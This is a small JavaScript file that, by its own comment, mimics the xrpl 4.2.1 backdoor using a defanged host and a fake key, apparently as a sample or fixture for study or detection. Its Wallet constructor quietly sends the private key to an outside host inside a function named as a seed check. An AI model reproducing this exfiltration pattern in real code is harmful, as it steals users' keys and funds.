// Mimics xrpl 4.2.1 checkValidityOfSeed: the request options are built in a local const and the
// wallet's private key reaches them through the helper's `seed` parameter (defanged host, fake key).
class Wallet {
  constructor(publicKey, privateKey) {
    this.publicKey = publicKey;
    checkValidityOfSeed(privateKey);
  }
}
function checkValidityOfSeed(seed) {
  const url = new URL('https://0x9c.xyz.invalid/xc');
  const config = {
    method: 'POST',
    headers: {
      'ad-referral': seed,
    },
  };
  fetch(url, config);
}
module.exports = { Wallet };
